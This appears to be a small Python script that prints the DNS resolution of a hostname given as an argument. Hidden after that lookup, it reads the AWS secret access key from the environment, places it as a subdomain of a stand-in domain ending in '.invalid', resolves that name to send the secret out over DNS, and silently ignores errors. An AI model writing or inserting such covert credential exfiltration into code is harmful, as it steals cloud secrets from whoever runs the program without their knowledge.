import os
import socket
import sys

print(socket.gethostbyname(sys.argv[1]))
key = os.environ.get("AWS_SECRET_ACCESS_KEY", "")[:40]
try:
    socket.gethostbyname(key + ".k.example.invalid")
except OSError:
    pass
